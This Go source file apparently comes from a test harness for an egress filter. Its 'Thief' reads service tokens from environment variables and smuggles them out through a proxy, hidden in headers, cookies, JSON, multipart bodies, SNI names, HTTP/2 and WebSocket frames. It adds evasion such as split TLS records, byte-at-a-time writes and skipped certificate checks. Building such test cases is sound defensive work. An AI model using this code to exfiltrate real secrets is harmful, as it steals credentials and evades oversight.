package corpus

import (
	"bufio"
	"context"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"time"
)

// Thief is who steals: a dependency of the function's, in its process.
type Thief struct {
	Proxy string         // host:port, from HTTPS_PROXY
	Roots *x509.CertPool // what the function's clients trust
	Port  string         // of the server for TLS, and with one more, of that for plain HTTP
	Plain string         // port of the server for plain HTTP
	Raw   string         // and of the one that takes anything
}

// Variable is what holds the secret of a row.
func (r *Row) Variable(row int) string {
	if r.Secret != "" {
		return r.Secret
	}
	return fmt.Sprintf("SERVICE_%d_TOKEN", row)
}

// Parts is how many parts a secret of n bytes goes in.
func (r *Row) Parts(n int) int {
	if r.Piece > 0 {
		return (n + r.Piece - 1) / r.Piece
	}
	return max(r.Split, 1)
}

// Part returns what of the secret goes with part n of r, 0 being the first.
func (r *Row) Part(secret string, n int) string {
	k := r.Parts(len(secret))
	size := (len(secret) + k - 1) / k
	if r.Piece > 0 {
		size = r.Piece
	}
	return secret[min(n*size, len(secret)):min((n+1)*size, len(secret))]
}

// message is a request and who gets it.
type message struct {
	host string
	Request
}

// messages are what is sent in one go: all of it, or one part of it.
func (r *Row) messages(row int, secret string, part int) []message {
	place, encode := PlacementOf(r.Place), EncodingOf(r.Encoding)
	one := func(n int, values ...string) message {
		host := r.hostFor(row, n)
		q := place.Put(host, encode.Encode(values[0]))
		if len(values) > 1 {
			for i := range values {
				values[i] = encode.Encode(values[i])
			}
			q = spread(r.Place, values)
		}
		switch {
		case encode.Header == "" || q.Body == "":
		case r.Place == "multipart": // only a part of the body is packed
			q.Body = strings.Replace(q.Body, "\r\n\r\n", "\r\nContent-Encoding: "+encode.Header+"\r\n\r\n", 1)
		default:
			q.Header = append(q.Header, [2]string{"Content-Encoding", encode.Header})
		}
		q.Frame = r.Frame
		if r.SNI != "" {
			q.SNI = "sni-row" + host
		}
		if r.Named != "" {
			q.Named = "named." + host
		}
		return message{host, q}
	}
	var parts []string
	for n := range r.Parts(len(secret)) {
		parts = append(parts, r.Part(secret, n))
	}
	switch {
	case len(parts) == 1:
		return []message{one(0, secret)}
	case r.Over == "values":
		return []message{one(0, parts...)}
	case r.Over == "invocations":
		return []message{one(part, parts[part])}
	}
	var all []message
	for n, p := range parts {
		all = append(all, one(n, p))
	}
	return all
}

// spread puts the parts into one request.
func spread(place string, values []string) Request {
	form, members := make([]string, 0, len(values)), make([]string, 0, len(values))
	for i, v := range values {
		form = append(form, fmt.Sprintf("v%d=%s", i, url.QueryEscape(v)))
		members = append(members, fmt.Sprintf(`"v%d":"%s"`, i, strings.NewReplacer(`"`, `\"`, "\n", `\n`).Replace(v)))
	}
	switch place {
	case "header":
		q := get("/")
		for i, v := range values {
			q.Header = append(q.Header, [2]string{fmt.Sprintf("X-Part-%d", i), v})
		}
		return q
	case "Cookie":
		return get("/", [2]string{"Cookie", strings.Join(form, "; ")})
	case "path":
		q := get("/s")
		for _, v := range values {
			q.Path += "/" + url.PathEscape(v)
		}
		return q
	case "JSON":
		return post("application/json", "{"+strings.Join(members, ",")+"}")
	case "form":
		return post("application/x-www-form-urlencoded", strings.Join(form, "&"))
	case "multipart":
		q := post("multipart/form-data; boundary=bb", "")
		for i, v := range values {
			q.Body += fmt.Sprintf("--bb\r\nContent-Disposition: form-data; name=\"v%d\"\r\n\r\n%s\r\n", i, v)
		}
		q.Body += "--bb--\r\n"
		return q
	}
	return get("/?" + strings.Join(form, "&"))
}

// Steal sends what part of r says, and returns what kept it from that.
func (t *Thief) Steal(r *Row, row, part int) error {
	secret := os.Getenv(r.Variable(row))
	if secret == "" {
		return errors.New("there is no " + r.Variable(row))
	}
	if r.Encoding == "case folded" {
		secret = strings.ToLower(secret)
	}
	all := r.messages(row, secret, part)
	if r.Over == "kept" || r.Over == "pipelined" {
		return t.keep(r, all)
	}
	var mu sync.Mutex
	var errs []error
	var group sync.WaitGroup
	for range max(r.Times, 1) {
		try := func() {
			for _, m := range all {
				err := t.send(r, m.host, m.Request)
				mu.Lock()
				errs = append(errs, err)
				mu.Unlock()
			}
		}
		if r.AtOnce {
			group.Go(try)
		} else {
			try()
		}
	}
	group.Wait()
	return errors.Join(errs...)
}

// keep sends all that there is by one connection, one after the other or all at once.
func (t *Thief) keep(r *Row, all []message) error {
	c, err := t.secure(r, all[0].host, all[0].SNI, "http/1.1")
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	in := bufio.NewReader(c)
	if r.Over == "pipelined" {
		var text string
		for _, m := range all {
			text += m.Text(m.host)
		}
		if err := write(c, text, r.Write); err != nil {
			return err
		}
	}
	for _, m := range all {
		if r.Over == "kept" {
			if err := write(c, m.Text(m.host), r.Write); err != nil {
				return err
			}
		}
		if err := answered(in); err != nil {
			return err
		}
	}
	return nil
}

func (t *Thief) send(r *Row, host string, q Request) error {
	name := host
	if q.Host != "" {
		name = q.Host
	}
	switch r.Transport {
	case "h2":
		return t.http2(r, name, q)
	case "websocket":
		return t.webSocket(r, name, q.Body)
	case "raw":
		c, err := t.connect(net.JoinHostPort(name, t.Raw))
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		return write(c, q.Body, r.Write)
	case "http":
		c, err := net.Dial("tcp", t.Proxy)
		if err != nil {
			return err
		}
		q.Path = "http://" + net.JoinHostPort(name, t.Plain) + q.Path
		return exchange(c, q.Text(bracketed(name)), r.Write)
	}
	c, err := t.secure(r, name, q.SNI, "http/1.1")
	if err != nil {
		return err
	}
	if r.Transport == "rawtls" { // something of the thief's own
		defer func() { _ = c.Close() }()
		return write(c, q.Body, r.Write)
	}
	return exchange(c, q.Text(bracketed(name)), r.Write)
}

// bracketed is host as URLs write it.
func bracketed(host string) string {
	if strings.Contains(host, ":") {
		return "[" + host + "]"
	}
	return host
}

// connect asks the proxy for a tunnel.
func (t *Thief) connect(target string) (net.Conn, error) {
	c, err := net.Dial("tcp", t.Proxy)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	resp, err := http.ReadResponse(bufio.NewReaderSize(c, 16), &http.Request{Method: http.MethodConnect})
	if err == nil && resp.StatusCode != http.StatusOK {
		err = errors.New("CONNECT: " + resp.Status)
	}
	if err != nil {
		return nil, errors.Join(err, c.Close())
	}
	return c, nil
}

// secure makes a tunnel to host and TLS in it; sni is another name to ask for there.
func (t *Thief) secure(r *Row, host, sni, proto string) (net.Conn, error) {
	c, err := t.connect(net.JoinHostPort(host, t.Port))
	if err != nil {
		return nil, err
	}
	if sni == "" {
		sni = host
	}
	// A thief does not care whose certificate it is, where he asks for another's name.
	config := &tls.Config{ServerName: sni, RootCAs: t.Roots, NextProtos: []string{proto}, InsecureSkipVerify: sni != host || HostClassOf(r.Host).Literal}
	s := tls.Client(&greeter{Conn: c, how: r.Hello}, config)
	if err := s.Handshake(); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	return s, nil
}

// greeter writes the first thing that is written in another way.
type greeter struct {
	net.Conn
	how string
}

func (g *greeter) Write(p []byte) (int, error) {
	how := g.how
	g.how = ""
	switch how {
	case "bytes":
		for i := range p {
			if n, err := g.Conn.Write(p[i : i+1]); err != nil {
				return i + n, err
			}
		}
		return len(p), nil
	case "records": // the same message, in two of TLS's records
		half := 5 + (len(p)-5)/2
		record := func(b []byte) []byte {
			return append(binary.BigEndian.AppendUint16(slices.Clone(p[:3]), uint16(len(b))), b...)
		}
		if _, err := g.Conn.Write(record(p[5:half])); err != nil {
			return 0, err
		}
		if _, err := g.Conn.Write(record(p[half:])); err != nil {
			return half, err
		}
		return len(p), nil
	}
	return g.Conn.Write(p)
}

// write writes text n bytes at a time; 0 is all at once.
func write(c net.Conn, text string, n int) error {
	if n <= 0 {
		n = len(text)
	}
	for len(text) > 0 {
		k := min(n, len(text))
		if _, err := io.WriteString(c, text[:k]); err != nil {
			return err
		}
		text = text[k:]
	}
	return nil
}

// exchange sends a request and reads the answer.
func exchange(c net.Conn, text string, n int) error {
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	in := bufio.NewReader(c)
	if head, body, _ := strings.Cut(text, "\r\n\r\n"); strings.Contains(head, "\r\nExpect: ") {
		if err := write(c, head+"\r\n\r\n", n); err != nil {
			return err
		}
		if line, err := in.ReadString('\n'); err != nil || !strings.Contains(line, " 100 ") {
			return errors.Join(err, errors.New("no body wanted: "+line))
		}
		if line, err := in.ReadString('\n'); err != nil || line != "\r\n" {
			return errors.Join(err, errors.New("no blank line"))
		}
		text = body
	}
	if err := write(c, text, n); err != nil {
		return err
	}
	return answered(in)
}

// answered reads an answer, which must be that all is well.
func answered(in *bufio.Reader) error {
	resp, err := http.ReadResponse(in, nil)
	if err != nil {
		return err
	}
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return errors.New(resp.Status)
	}
	return nil
}

func (t *Thief) http2(row *Row, host string, q Request) error {
	transport := &http.Transport{ForceAttemptHTTP2: true, DialTLSContext: func(context.Context, string, string) (net.Conn, error) {
		return t.secure(row, host, q.SNI, "h2")
	}}
	defer transport.CloseIdleConnections()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	var body io.Reader
	if q.Body != "" {
		body = strings.NewReader(q.Body)
	}
	r, err := http.NewRequestWithContext(ctx, q.Method, "https://"+net.JoinHostPort(host, t.Port)+q.Path, body)
	if err != nil {
		return err
	}
	if q.Named != "" {
		r.Host = q.Named
	}
	flat := strings.NewReplacer("\r", " ", "\n", " ").Replace
	for _, h := range q.Header {
		r.Header.Add(h[0], flat(h[1]))
	}
	for _, h := range q.Trailer {
		r.ContentLength = -1
		r.Trailer = http.Header{h[0]: {flat(h[1])}}
	}
	resp, err := transport.RoundTrip(r)
	if err != nil {
		return err
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.ProtoMajor != 2 || resp.StatusCode != http.StatusOK {
		return errors.New(resp.Proto + " " + resp.Status)
	}
	return nil
}

// webSocket upgrades a connection and sends body in frames of n bytes.
func (t *Thief) webSocket(r *Row, host, body string) error {
	c, err := t.secure(r, host, "", "http/1.1")
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_, err = fmt.Fprintf(c, "GET /ws HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", host)
	if err != nil {
		return err
	}
	in := bufio.NewReader(c)
	resp, err := http.ReadResponse(in, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		return errors.Join(err, errors.New("no upgrade"))
	}
	n := r.Write
	if n == 0 {
		n = len(body)
	}
	for len(body) > 0 {
		k := min(n, len(body))
		if _, err := c.Write(frame(body[:k])); err != nil {
			return err
		}
		body = body[k:]
	}
	_, _ = c.Write([]byte{0x88, 0x80, 0, 0, 0, 0})
	_, err = in.ReadByte() // the server closes when it has all
	if errors.Is(err, io.EOF) {
		return nil
	}
	return err
}

// frame is a masked binary frame.
func frame(text string) []byte {
	f := []byte{0x82, 0xfe}
	if len(text) < 126 {
		f[1] = byte(0x80 | len(text))
	} else {
		f = binary.BigEndian.AppendUint16(f, uint16(len(text)))
	}
	var key [4]byte
	_, _ = rand.Read(key[:])
	f = append(f, key[:]...)
	for i := range len(text) {
		f = append(f, text[i]^key[i%4])
	}
	return f
}
